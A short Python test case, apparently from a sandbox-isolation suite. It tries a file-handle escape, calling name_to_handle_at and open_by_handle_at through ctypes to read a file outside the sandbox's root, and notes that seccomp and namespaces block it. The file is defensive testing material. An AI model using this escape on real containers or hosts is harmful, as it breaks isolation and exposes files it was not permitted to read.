"""Opens a file by its handle instead of its path, as root could even outside its own root folder."""
# stopped by: seccomp, namespaces
# at D: breach
import ctypes
import os
import struct


def attack():
    libc, mount = ctypes.CDLL(None, use_errno=True), ctypes.c_int()
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    libc.name_to_handle_at(-100, b"@HOME@/notes.txt", handle, ctypes.byref(mount), 0)
    descriptor = libc.open_by_handle_at(os.open("@HOME@", os.O_RDONLY), handle, os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(descriptor, 1000).decode()
